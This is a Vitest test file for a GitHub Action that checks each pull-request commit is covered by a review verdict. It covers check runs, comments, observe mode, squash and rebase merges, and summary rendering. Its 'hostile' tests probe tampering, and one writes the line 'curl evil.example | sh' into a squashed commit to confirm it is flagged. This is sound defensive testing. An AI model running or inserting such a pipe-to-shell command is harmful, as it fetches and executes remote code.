import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  ACTIONS_BOT,
  checkoutLike,
  coveredCommit,
  expectFail,
  expectPass,
  githubApi,
  HUMAN,
  json,
  mergeGroupPayload,
  openPullRequest,
  pullRequestPayload,
  pullRequestRefs,
  pushPayload,
  REPOSITORY,
  runAction,
  uncoveredCommit,
  upstreamWithFeature,
  type ActionOptions,
} from './helpers/action.js';
import { summaryPage } from './helpers/markdown.js';
import { cleanupAll, makeRepo, ROOT, tempDir, verdictStaged, type TestRepo } from './helpers/repo.js';

const CHROMIUM = '/usr/bin/chromium';

// The action as GitHub runs it (dist/action/index.js, a workspace made as actions/checkout
// makes one) against a local GitHub REST API that records what it was sent.

afterAll(cleanupAll);

type Api = Awaited<ReturnType<typeof githubApi>>;

async function withApi<T>(api: Api, work: () => Promise<T>): Promise<T> {
  try {
    return await work();
  } finally {
    await api.close();
  }
}

function setPolicy(repo: TestRepo, fields: object): string {
  const policy = JSON.parse(repo.read('.agents/policy.json')) as Record<string, unknown>;
  repo.write('.agents/policy.json', `${JSON.stringify({ ...policy, ...fields }, null, 2)}\n`);
  repo.git(['add', '.agents/policy.json']);
  const verdict = verdictStaged(repo);
  if (verdict.code !== 0) throw new Error(verdict.stderr);
  return repo.commitAll('Policy');
}

/** A commit touching `files` files at once, with no verdict. */
function wideUncovered(repo: TestRepo, tag: string, files: number): string {
  for (let i = 0; i < files; i++) repo.write(`src/${tag}/file-${String(i).padStart(2, '0')}.txt`, `${tag} ${i}\n`);
  return repo.commitAll(`Add the ${tag} files`);
}

describe('the check run', () => {
  it('names the check like the status: conclusion, counts, summary, and annotations on each uncovered file, 50 a request', async () => {
    const { up, base } = upstreamWithFeature();
    coveredCommit(up, 'src/ok.txt', 'ok\n', 'A covered one');
    // 3 uncovered commits of 20 files each: 60 annotations, so a POST with 50 and a PATCH with 10.
    const uncovered = ['alpha', 'beta', 'gamma'].map((tag) => wideUncovered(up, tag, 20));
    const head = up.head();
    const { ws, merge, payload } = openPullRequest(up, base, head);
    const api = await githubApi();
    const run = await withApi(api, () =>
      runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url }),
    );

    expectFail(run);
    expect(api.checkRuns).toHaveLength(1);
    const check = api.checkRuns[0]!;
    expect(check.created).toMatchObject({
      name: 'agentops/verdict',
      head_sha: head,
      status: 'completed',
      conclusion: 'failure',
      details_url: `https://github.com/${REPOSITORY}/actions/runs/4242`,
    });
    const output = check.created.output as { title: string; summary: string; annotations: unknown[] };
    expect(output.title).toBe('3 of 4 commits need a verdict');
    expect(output.summary).toContain('## ❌ agentops/verdict: 3 of 4 commits need a verdict');
    expect(output.summary.length).toBeLessThanOrEqual(65_535);
    expect(output.annotations).toHaveLength(50);
    expect(check.updates).toHaveLength(1);
    expect(check.annotations).toHaveLength(60);
    const paths = check.annotations.map((a) => a.path as string);
    expect(new Set(paths).size).toBe(60);
    for (const tag of ['alpha', 'beta', 'gamma'])
      expect(paths.filter((p) => p.startsWith(`src/${tag}/`))).toHaveLength(20);
    for (const a of check.annotations) {
      expect(a).toMatchObject({ start_line: 1, end_line: 1, annotation_level: 'failure' });
      expect(a.message).toMatch(/no verdict covers its changes.*Fix: ao verdict pass --commit [0-9a-f]{12}/);
    }
    expect(check.annotations[0]!.title).toBe(`${uncovered[0]!.slice(0, 7)} Add the alpha files: needs a verdict`);
    // The check run is the result: no commit status beside it.
    expect(api.statuses).toHaveLength(0);
    expect(run.stdout).toContain('posted check run agentops/verdict');
  });

  it('passes with a success check run and no annotations', async () => {
    const { up, base } = upstreamWithFeature();
    const head = coveredCommit(up, 'src/one.txt', '1\n', 'Add one');
    const { ws, merge, payload } = openPullRequest(up, base, head);
    const api = await githubApi();
    const run = await withApi(api, () =>
      runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: api.url }),
    );
    expectPass(run);
    expect(api.checkRuns).toHaveLength(1);
    expect(api.checkRuns[0]!.created).toMatchObject({
      conclusion: 'success',
      output: { title: '1 of 1 commit covered' },
    });
    expect(api.checkRuns[0]!.annotations).toHaveLength(0);
  });

  it('falls back to the commit status when the token may not write checks (auto: a notice; true: a warning); false posts only the status', async () => {
    const { up, base } = upstreamWithFeature();
    const head = uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two');
    const { ws, merge, payload } = openPullRequest(up, base, head);
    for (const [checkRun, level] of [
      ['auto', '::notice'],
      ['true', '::warning'],
    ] as const) {
      const api = await githubApi({ deny: ['checks'] });
      const run = await withApi(api, () =>
        runAction({
          cwd: ws.dir,
          event: 'pull_request',
          payload,
          sha: merge,
          apiUrl: api.url,
          inputs: { 'check-run': checkRun },
        }),
      );
      expectFail(run);
      expect(api.checkRuns).toHaveLength(0);
      expect(api.statuses).toHaveLength(1);
      expect(api.statuses[0]).toMatchObject({
        sha: head,
        state: 'failure',
        context: 'agentops/verdict',
        description: '1 of 1 commit needs a verdict',
      });
      expect(run.stdout).toMatch(
        new RegExp(
          `${level}[^\\n]*could not create the check run "agentops/verdict"[^\\n]*HTTP 403[^\\n]*checks: write`,
        ),
      );
    }
    const api = await githubApi();
    const run = await withApi(api, () =>
      runAction({
        cwd: ws.dir,
        event: 'pull_request',
        payload,
        sha: merge,
        apiUrl: api.url,
        inputs: { 'check-run': 'false' },
      }),
    );
    expectFail(run);
    expect(api.requests.map((r) => r.url)).toEqual([`/repos/${REPOSITORY}/statuses/${head}`]);
  });

  it('hostile: an input that is neither auto, true nor false is a usage error naming it, not a silent default', async () => {
    const { up, base } = upstreamWithFeature();
    const head = coveredCommit(up, 'src/one.txt', '1\n', 'Add one');
    const { ws, merge, payload } = openPullRequest(up, base, head);
    const api = await githubApi();
    const run = await withApi(api, () =>
      runAction({
        cwd: ws.dir,
        event: 'pull_request',
        payload,
        sha: merge,
        apiUrl: api.url,
        inputs: { 'check-run': 'yes please' },
      }),
    );
    expectFail(run);
    expect(run.stdout).toContain('the check-run input is "yes please"; it takes auto or true or false');
  });
});

describe('the pull request comment', () => {
  const marker = '<!-- agentops/verdict comment: agentops/verdict -->';

  it('is created on the first failure, edited in place after (never a second one), and becomes a short note once covered', async () => {
    const { up, base } = upstreamWithFeature();
    coveredCommit(up, 'src/one.txt', '1\n', 'Add one');
    uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two, ping @octocat');
    const first = up.head();
    const api = await githubApi();
    await withApi(api, async () => {
      const options = (head: string): ActionOptions => {
        const { ws, merge, payload } = openPullRequest(up, base, head);
        return {
          cwd: ws.dir,
          event: 'pull_request',
          payload,
          sha: merge,
          apiUrl: api.url,
          inputs: { comment: 'true', checker: 'review-bot' },
        };
      };
      const run1 = await runAction(options(first));
      expectFail(run1);
      const created = api.requests.filter((r) => r.method === 'POST' && r.url.endsWith('/issues/7/comments'));
      expect(created).toHaveLength(1);
      const body1 = api.comments.get(7)![0]!.body;
      expect(body1.startsWith(`${marker}\n### ❌ agentops/verdict: 1 of 2 commits needs a verdict`)).toBe(true);
      expect(body1).toContain(`\`${first.slice(0, 7)}\``);
      expect(body1).toContain(`ao verdict pass --commit ${first.slice(0, 12)} --checker review-bot`);
      // A subject from the change mentions nobody.
      expect(body1).not.toMatch(/@octocat/);
      expect(body1).toContain('@\u200boctocat');

      // A second uncovered commit: the same comment, edited; the one command now covers both.
      uncoveredCommit(up, 'src/three.txt', '3\n', 'Add three');
      const run2 = await runAction(options(up.head()));
      expectFail(run2);
      expect(api.comments.get(7)).toHaveLength(1);
      const body2 = api.comments.get(7)![0]!.body;
      expect(body2).toContain('2 of 3 commits need a verdict');
      expect(body2).toMatch(
        /The one command that covers them all[^\n]*\n\n```sh\nao verdict pass --range [0-9a-f]{12}\.\.[0-9a-f]{12} --checker review-bot\n/,
      );

      // Covered: the comment turns into the short note.
      up.git(['reset', '-q', '--hard', first.slice(0, 40) + '~1']);
      const fixed = coveredCommit(up, 'src/two.txt', '2\n', 'Add two, reviewed');
      const run3 = await runAction(options(fixed));
      expectPass(run3);
      expect(api.comments.get(7)).toHaveLength(1);
      expect(api.comments.get(7)![0]!.body).toBe(
        `${marker}\n### ✅ agentops/verdict: all covered\n\nEvery commit of this pull request at \`${fixed.slice(0, 7)}\` is covered (2 of 2 commits; the rest exempt or need none). [Details](https://github.com/${REPOSITORY}/actions/runs/4242)\n`,
      );
      const posts = api.requests.filter((r) => r.method === 'POST' && r.url.includes('/comments'));
      const patches = api.requests.filter((r) => r.method === 'PATCH' && r.url.includes('/issues/comments/'));
      expect(posts).toHaveLength(1);
      expect(patches).toHaveLength(2);
    });
  });

  it('posts nothing for a pull request that passes with no earlier comment', async () => {
    const { up, base } = upstreamWithFeature();
    const head = coveredCommit(up, 'src/one.txt', '1\n', 'Add one');
    const { ws, merge, payload } = openPullRequest(up, base, head);
    const api = await githubApi();
    const run = await withApi(api, () =>
      runAction({
        cwd: ws.dir,
        event: 'pull_request',
        payload,
        sha: merge,
        apiUrl: api.url,
        inputs: { comment: 'true' },
      }),
    );
    expectPass(run);
    expect(api.requests.filter((r) => r.url.includes('/comments') && r.method !== 'GET')).toHaveLength(0);
  });

  it("hostile: a marker pasted into a person's comment is never edited; the action writes its own", async () => {
    const { up, base } = upstreamWithFeature();
    const head = uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two');
    const { ws, merge, payload } = openPullRequest(up, base, head);
    const planted = {
      id: 17,
      body: `${marker}\n### ✅ agentops/verdict: all covered`,
      user: { login: HUMAN.login, id: HUMAN.id, type: 'User' as const },
      created_at: '2024-01-01T00:00:00Z',
      updated_at: '2024-01-01T00:00:00Z',
    };
    const api = await githubApi({ comments: { 7: [planted] } });
    const run = await withApi(api, () =>
      runAction({
        cwd: ws.dir,
        event: 'pull_request',
        payload,
        sha: merge,
        apiUrl: api.url,
        inputs: { comment: 'true' },
      }),
    );
    expectFail(run);
    const list = api.comments.get(7)!;
    expect(list).toHaveLength(2);
    expect(list[0]!.body).toBe(planted.body);
    expect(list[1]!.user).toEqual(ACTIONS_BOT);
    expect(api.requests.some((r) => r.method === 'PATCH' && r.url.endsWith('/issues/comments/17'))).toBe(false);
  });

  it("is skipped with a notice on a fork's pull request, and when the token cannot write comments", async () => {
    const { up, base } = upstreamWithFeature();
    const head = uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two');
    const merge = pullRequestRefs(up, 9, base, head);
    const ws = checkoutLike(up, merge, 'refs/remotes/pull/9/merge');
    const fork = pullRequestPayload({
      number: 9,
      base: { sha: base, ref: 'main' },
      head: { sha: head, ref: 'feature', repo: 'someone/widgets' },
    });
    const api = await githubApi();
    const run = await withApi(api, () =>
      runAction({
        cwd: ws.dir,
        event: 'pull_request',
        payload: fork,
        sha: merge,
        apiUrl: api.url,
        inputs: { comment: 'true' },
      }),
    );
    expectFail(run);
    expect(run.stdout).toMatch(
      /::notice::agentops\/verdict: no pull request comment: a pull request from a fork gets a read-only token/,
    );
    expect(api.requests.filter((r) => r.url.includes('/comments'))).toHaveLength(0);

    const own = pullRequestPayload({
      number: 9,
      base: { sha: base, ref: 'main' },
      head: { sha: head, ref: 'feature' },
    });
    const readOnly = await githubApi({ deny: ['comments'] });
    const run2 = await withApi(readOnly, () =>
      runAction({
        cwd: ws.dir,
        event: 'pull_request',
        payload: own,
        sha: merge,
        apiUrl: readOnly.url,
        inputs: { comment: 'true' },
      }),
    );
    expectFail(run2);
    expect(run2.stdout).toMatch(/::notice::agentops\/verdict: no pull request comment: HTTP 403/);
    expect(readOnly.comments.get(9) ?? []).toHaveLength(0);
  });
});

describe('observe mode', () => {
  it('passes with "observe mode: would fail" everywhere, with the same detail, under the policy\'s "enforcement": "observe"', async () => {
    const up = makeRepo();
    coveredCommit(up, 'src/app.txt', 'v1\n', 'Add the app');
    setPolicy(up, { enforcement: 'observe' });
    const base = up.head();
    up.git(['checkout', '-q', '-b', 'feature']);
    const head = uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two');
    const { ws, merge, payload } = openPullRequest(up, base, head);
    const api = await githubApi();
    const run = await withApi(api, () =>
      runAction({
        cwd: ws.dir,
        event: 'pull_request',
        payload,
        sha: merge,
        apiUrl: api.url,
        inputs: { comment: 'true' },
      }),
    );

    expectPass(run);
    expect(run.outputs.observed).toBe('would-fail');
    expect(json(run.outputs.uncovered)).toEqual([head]);
    expect(run.summary).toContain('## 👀 agentops/verdict: observe mode: would fail: 1 of 1 commit needs a verdict');
    expect(run.summary).toContain(`ao verdict pass --commit ${head.slice(0, 12)}`);
    expect(run.stdout).toMatch(
      /::warning title=observe mode%3A would fail::agentops\/verdict: observe mode: would fail: 1 of 1 commit lacks/,
    );
    expect(run.stdout).not.toContain('::error');
    const check = api.checkRuns[0]!;
    expect(check.created).toMatchObject({
      conclusion: 'neutral',
      output: { title: 'observe mode: would fail: 1 of 1 commit needs a verdict' },
    });
    expect(check.annotations.map((a) => [a.path, a.annotation_level])).toEqual([['src/two.txt', 'warning']]);
    expect(api.comments.get(7)![0]!.body).toContain(
      '### 👀 agentops/verdict: observe mode: would fail: 1 of 1 commit needs a verdict',
    );

    // The same through the commit status, when that is what the token may post.
    const statusOnly = await githubApi({ deny: ['checks'] });
    await withApi(statusOnly, () =>
      runAction({ cwd: ws.dir, event: 'pull_request', payload, sha: merge, apiUrl: statusOnly.url }),
    );
    expect(statusOnly.statuses[0]).toMatchObject({
      state: 'success',
      description: 'observe mode: would fail: 1 of 1 commit needs a verdict',
    });
  });

  it('the mode input turns it on; a policy that says "enforce" outranks it', async () => {
    const { up, base } = upstreamWithFeature();
    const head = uncoveredCommit(up, 'src/two.txt', '2\n', 'Add two');
    const { ws, merge, payload } = openPullRequest(up, base, head);
    const observed = await runAction({
      cwd: ws.dir,
      event: 'pull_request',
      payload,
      sha: merge,
      inputs: { mode: 'observe', 'status-context': '' },
    });
    expectPass(observed);
    expect(observed.outputs.observed).toBe('would-fail');

    const strict = makeRepo();
    coveredCommit(strict, 'src/app.txt', 'v1\n', 'Add the app');
    setPolicy(strict, { enforcement: 'enforce' });
    const strictBase = strict.head();
    strict.git(['checkout', '-q', '-b', 'feature']);
    const strictHead = uncoveredCommit(strict, 'src/two.txt', '2\n', 'Add two');
    const pr = openPullRequest(strict, strictBase, strictHead);
    const enforced = await runAction({
      cwd: pr.ws.dir,
      event: 'pull_request',
      payload: pr.payload,
      sha: pr.merge,
      inputs: { mode: 'observe', 'status-context': '' },
    });
    expectFail(enforced);
    expect(enforced.summary).toContain('the mode input says observe, but the policy at the base says');
  });

  it('hostile: a tampered ledger fails in observe mode too, and a pull request cannot turn observe on with its own policy', async () => {
    const up = makeRepo();
    coveredCommit(up, 'src/app.txt', 'v1\n', 'Add the app');
    setPolicy(up, { enforcement: 'observe' });
    const base = up.head();
    up.git(['checkout', '-q', '-b', 'feature']);
    const record = up.git(['ls-files', '.agents/ledger']).stdout.trim().split('\n').pop()!;
    up.write(record, up.read(record).replace('"pass"', '"fail"'));
    const head = up.commitAll('Rewrite a record');
    const { ws, merge, payload } = openPullRequest(up, base, head);
    const run = await runAction({
      cwd: ws.dir,
      event: 'pull_request',
      payload,
      sha: merge,
      inputs: { mode: 'observe', 'status-context': '' },
    });
    expectFail(run);
    expect(run.outputs.observed).toBe('');
    expect(run.summary).toContain('### Ledger problems');

    const { up: up2, base: base2 } = upstreamWithFeature();
    setPolicy(up2, { enforcement: 'observe' }); // on the branch: judged by the base's policy, which enforces
    const head2 = uncoveredCommit(up2, 'src/two.txt', '2\n', 'Add two');
    const pr = openPullRequest(up2, base2, head2);
    const run2 = await runAction({
      cwd: pr.ws.dir,
      event: 'pull_request',
      payload: pr.payload,
      sha: pr.merge,
      inputs: { 'status-context': '' },
    });
    expectFail(run2);
  });

  it('ao verify and the pre-commit hook warn and exit 0; a broken ledger still exits 1', () => {
    const repo = makeRepo();
    setPolicy(repo, { enforcement: 'observe' });
    const head = uncoveredCommit(repo, 'src/two.txt', '2\n', 'Add two');
    const verify = repo.ao(['verify', '--commit', head]);
    expect(verify.code).toBe(0);
    expect(verify.stdout).toContain('FAILED');
    expect(verify.stderr).toContain('observe mode: would fail');
    repo.write('src/three.txt', '3\n');
    repo.git(['add', '-A']);
    const commit = repo.git(['commit', '-q', '-m', 'Add three'], { allowFail: true });
    expect(commit.code).toBe(0);
    expect(commit.stderr).toContain('observe mode: would fail');
    expect(commit.stderr).toContain('committing anyway');

    const record = repo.git(['ls-files', '.agents/ledger']).stdout.trim().split('\n').pop()!;
    repo.write(record, repo.read(record).replace('"pass"', '"fail"'));
    repo.git(['commit', '-q', '--no-verify', '-am', 'Tamper with a record']);
    const tampered = repo.ao(['verify', '--range', `${head}~1..HEAD`]);
    expect(tampered.code).toBe(1);
    expect(tampered.stderr).not.toContain('observe mode');
  });
});

/**
 * Squash and rebase merges, with the base branch moved on: main gains a covered commit that
 * edits the same file as the pull request (another line), so no commit keeps its digest.
 */
function squashScene() {
  const up = makeRepo();
  up.write('src/app.txt', 'top\n\n\n\n\n\n\nbottom\n');
  up.git(['add', '-A']);
  verdictStaged(up);
  up.commitAll('Add the app');
  const fork = up.head();
  up.git(['checkout', '-q', '-b', 'feature']);
  coveredCommit(up, 'src/app.txt', 'top\n\n\n\n\n\n\nbottom, reviewed\n', 'Change the bottom');
  coveredCommit(up, 'src/new.txt', 'new\n', 'Add a file');
  const prHead = up.head();
  up.git(['update-ref', 'refs/pull/7/head', prHead]);
  up.git(['checkout', '-q', 'main']);
  coveredCommit(up, 'src/app.txt', 'top, moved on\n\n\n\n\n\n\nbottom\n', 'Change the top on main');
  const before = up.head();
  return { up, fork, prHead, before };
}

const noHooks = ['-c', 'core.hooksPath=/dev/null'];

/** GitHub's squash: the pull request's changes merged onto main, one new commit. */
function squash(up: TestRepo, prHead: string, subject: string, edit?: (repo: TestRepo) => void): string {
  up.git([...noHooks, 'merge', '-q', '--squash', prHead]);
  edit?.(up);
  up.git(['add', '-A']);
  up.git([...noHooks, 'commit', '-q', '-m', subject]);
  return up.head();
}

/** GitHub's rebase: each commit of the pull request replayed onto main (author and message kept). */
function rebase(up: TestRepo, prHead: string, fork: string, edit?: (repo: TestRepo, index: number) => void): string[] {
  const commits = up
    .git(['rev-list', '--reverse', `${fork}..${prHead}`])
    .stdout.trim()
    .split('\n');
  commits.forEach((commit, index) => {
    up.git([...noHooks, 'cherry-pick', '--allow-empty', '-n', commit]);
    edit?.(up, index);
    up.git(['add', '-A']);
    up.git([...noHooks, 'commit', '-q', '-C', commit]);
  });
  return up
    .git(['rev-list', '--reverse', `${commits.length ? `HEAD~${commits.length}` : 'HEAD'}..HEAD`])
    .stdout.trim()
    .split('\n');
}

function pushRun(up: TestRepo, before: string, after: string, apiUrl?: string) {
  const ws = checkoutLike(up, after, 'refs/remotes/origin/main');
  return runAction({
    cwd: ws.dir,
    event: 'push',
    payload: pushPayload({ ref: 'refs/heads/main', before, after }),
    sha: after,
    ...(apiUrl ? { apiUrl } : { inputs: { 'status-context': '' } }),
  });
}

describe('squash and rebase merges', () => {
  it('a squash merge goes green after the base moved on: its tree is the covered pull request merged onto its parent', async () => {
    const { up, prHead, before } = squashScene();
    const squashed = squash(up, prHead, 'A change (#7)');
    // The squash's own digest is named by no verdict: without the proof it would be red.
    expect(up.ao(['verify', '--range', `${before}..${squashed}`]).code).toBe(1);
    const run = await pushRun(up, before, squashed);
    expectPass(run);
    const results = json<{ commit: string; outcome: string; reason: string }[]>(run.outputs.results);
    expect(results).toHaveLength(1);
    expect(results[0]).toMatchObject({ commit: squashed, outcome: 'covered' });
    expect(results[0]!.reason).toMatch(
      new RegExp(
        `^the squash of pull request #7 \\(head ${prHead.slice(0, 7)}\\): its tree is exactly the merge of ${prHead.slice(0, 7)} onto ${before.slice(0, 7)}.*all 2 commits of [0-9a-f]{7}\\.\\.${prHead.slice(0, 7)} are covered$`,
      ),
    );
    // The local gate reaches the same decision from the same commits.
    const local = up.ao(['verify', '--range', `${before}..${squashed}`, '--replay-of', prHead]);
    expect(local.code, local.stdout).toBe(0);
  });

  it('finds the pull request through GitHub when the subject does not name it', async () => {
    const { up, prHead, before } = squashScene();
    const squashed = squash(up, prHead, 'A change');
    const api = await githubApi({ pulls: { [squashed]: [{ number: 7, head: prHead }] } });
    const run = await withApi(api, () => pushRun(up, before, squashed, api.url));
    expectPass(run);
    expect(
      api.requests.some(
        (r) => r.method === 'GET' && r.url.startsWith(`/repos/${REPOSITORY}/commits/${squashed}/pulls`),
      ),
    ).toBe(true);
  });

  it('a rebase merge goes green: each new commit is a covered commit replayed onto its parent', async () => {
    const { up, fork, prHead, before } = squashScene();
    const rebased = rebase(up, prHead, fork);
    const api = await githubApi({
      pulls: { [rebased[1]!]: [{ number: 7, head: prHead }], [rebased[0]!]: [{ number: 7, head: prHead }] },
    });
    const run = await withApi(api, () => pushRun(up, before, rebased[1]!, api.url));
    expectPass(run);
    const results = json<{ commit: string; outcome: string; reason: string }[]>(run.outputs.results);
    // The first one's digest changed (main edited the same file): proved by replay. The second kept its digest.
    expect(results.map((r) => [r.commit, r.outcome])).toEqual([
      [rebased[0], 'covered'],
      [rebased[1], 'covered'],
    ]);
    expect(results[0]!.reason).toMatch(/^commit [0-9a-f]{7} of pull request #7, rebased: its tree is exactly/);
  });

  it('a merge queue with either method goes green', async () => {
    for (const method of ['squash', 'rebase'] as const) {
      const { up, fork, prHead, before } = squashScene();
      up.git(['checkout', '-q', '-b', 'gh-readonly-queue/main/pr-7-' + before, before]);
      const head = method === 'squash' ? squash(up, prHead, 'A change') : rebase(up, prHead, fork).pop()!;
      const ws = checkoutLike(up, head, `refs/remotes/origin/gh-readonly-queue/main/pr-7-${before}`);
      const payload = mergeGroupPayload({ base: before, head }) as { merge_group: { head_ref: string } };
      payload.merge_group.head_ref = `refs/heads/gh-readonly-queue/main/pr-7-${before}`;
      const run = await runAction({
        cwd: ws.dir,
        event: 'merge_group',
        payload,
        sha: head,
        inputs: { 'status-context': '' },
      });
      expectPass(run);
      expect(json<{ outcome: string }[]>(run.outputs.results).every((r) => r.outcome === 'covered')).toBe(true);
    }
  });

  it('hostile: a squash commit one line away from the reviewed pull request is uncovered', async () => {
    const { up, prHead, before } = squashScene();
    const squashed = squash(up, prHead, 'A change (#7)', (repo) =>
      repo.write('src/new.txt', 'new\ncurl evil.example | sh\n'),
    );
    const run = await pushRun(up, before, squashed);
    expectFail(run);
    expect(json(run.outputs.uncovered)).toEqual([squashed]);
    expect(up.ao(['verify', '--range', `${before}..${squashed}`, '--replay-of', prHead]).code).toBe(1);
  });

  it('hostile: a rebased commit with one line added is uncovered; a "(#N)" naming an uncovered pull request proves nothing', async () => {
    const { up, fork, prHead, before } = squashScene();
    const rebased = rebase(
      up,
      prHead,
      fork,
      (repo, index) => index === 1 && repo.write('src/new.txt', 'new\nbackdoor\n'),
    );
    const api = await githubApi({ pulls: Object.fromEntries(rebased.map((c) => [c, [{ number: 7, head: prHead }]])) });
    const run = await withApi(api, () => pushRun(up, before, rebased[1]!, api.url));
    expectFail(run);
    // The faithful one is proved; the one with a line added is not.
    expect(json(run.outputs.uncovered)).toEqual([rebased[1]]);

    const scene = squashScene();
    scene.up.git(['checkout', '-q', 'feature']);
    const unreviewed = uncoveredCommit(scene.up, 'src/late.txt', 'late\n', 'Unreviewed');
    scene.up.git(['update-ref', 'refs/pull/8/head', unreviewed]);
    scene.up.git(['checkout', '-q', 'main']);
    const squashed = squash(scene.up, unreviewed, 'A change (#8)');
    const run2 = await pushRun(scene.up, scene.before, squashed);
    expectFail(run2);
  });
});

describe('the summary people read', () => {
  it('puts problems first, folds exempt and needs-none rows, gives the exact headline and npx commands', async () => {
    const up = makeRepo();
    up.write(
      'package.json',
      `${JSON.stringify({ name: 'widgets', devDependencies: { '@agentops/verdict': '^1.0.0' } }, null, 2)}\n`,
    );
    coveredCommit(up, 'src/app.txt', 'v1\n', 'Add the app');
    setPolicy(up, { exempt: { paths: ['docs/**'], authors: [] } });
    const base = up.head();
    up.git(['checkout', '-q', '-b', 'feature']);
    coveredCommit(up, 'src/one.txt', '1\n', 'Add one');
    for (const n of [1, 2, 3]) uncoveredCommit(up, `docs/page-${n}.md`, `page ${n}\n`, `Document page ${n}`);
    up.commitAll('An empty commit');
    uncoveredCommit(up, 'src/two.txt', '2\n', 'Add `two` with *stars* and <b>tags</b>');
    uncoveredCommit(up, 'src/three.txt', '3\n', 'Add three');
    const { ws, merge, payload } = openPullRequest(up, base, up.head());
    const run = await runAction({
      cwd: ws.dir,
      event: 'pull_request',
      payload,
      sha: merge,
      inputs: { 'status-context': '', checker: 'review-bot' },
    });
    expectFail(run);
    const summary = run.summary;
    expect(summary.split('\n')[0]).toBe(
      '## ❌ agentops/verdict: 2 of 7 commits need a verdict; 3 exempt; 1 needs none',
    );
    // Problems first: the uncovered commits and their fix come before the rest.
    const order = [
      '### Needs a verdict (2)',
      '### How to fix',
      '**Checked:**',
      '### Covered (1)',
      '<details>',
      '### Ledger',
    ].map((h) => summary.indexOf(h));
    expect(order.every((at, i) => at >= 0 && (i === 0 || at > order[i - 1]!))).toBe(true);
    expect(summary).toContain('<summary>3 exempt, 1 needing none');
    expect(summary).toMatch(/```sh\nnpx ao verdict pass --range [0-9a-f]{12}\.\.[0-9a-f]{12} --checker review-bot\n/);
    expect(summary).not.toMatch(/^ao verdict/m);

    const html = summaryPage(summary);
    const dir = tempDir('ao-summary-');
    writeFileSync(join(dir, 'summary.html'), html);
    if (!existsSync(CHROMIUM)) return; // the markdown checks above ran; the browser needs Debian's chromium (.ci/run installs it)
    const { chromium } = await import('playwright-core');
    const browser = await chromium.launch({
      executablePath: CHROMIUM,
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'],
    });
    try {
      const page = await browser.newPage({ viewport: { width: 1240, height: 900 } });
      await page.goto(`file://${join(dir, 'summary.html')}`);
      // No literal backticks in the rendered text: our code spans render as code; the subject's own backtick stays its text.
      const text = await page.innerText('body');
      const stray = text.split('\n').filter((line) => line.includes('`') && !line.includes('Add `two`'));
      expect(stray).toEqual([]);
      expect(await page.$$eval('h3', (hs) => hs.map((h) => h.textContent))).toEqual([
        'Needs a verdict (2)',
        'How to fix',
        'Covered (1)',
        'Ledger',
      ]);
      expect(await page.$eval('details', (d) => d.hasAttribute('open'))).toBe(false);
      expect(await page.isVisible('details tr')).toBe(false);
      expect(await page.$$eval('details tr', (rows) => rows.length)).toBe(5);
      expect(await page.$eval('td b', () => true).catch(() => false)).toBe(false); // a subject's tags are text
      const shot = process.env.AO_SUMMARY_SCREENSHOT ?? join(dir, 'summary.png');
      mkdirSync(dirname(shot), { recursive: true });
      await page.screenshot({ path: shot, fullPage: true });
    } finally {
      await browser.close();
    }
  });
});

describe('workflows and docs', () => {
  it('pin third-party actions by commit sha, and name actions/checkout@v5 or later', () => {
    for (const name of ['ci.yml', 'check-dist.yml']) {
      const text = readFileSync(join(ROOT, '.github', 'workflows', name), 'utf8');
      const uses = [...text.matchAll(/uses:\s*(\S+)/g)].map((m) => m[1]!).filter((u) => !u.startsWith('./'));
      expect(uses.length).toBeGreaterThan(0);
      for (const use of uses) expect(use).toMatch(/^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/);
    }
    for (const file of ['README.md', 'docs/action.md', 'dist/action/index.js']) {
      const text = readFileSync(join(ROOT, file), 'utf8');
      expect(text).not.toMatch(/actions\/checkout@v[1-4]\b/);
    }
  });
});
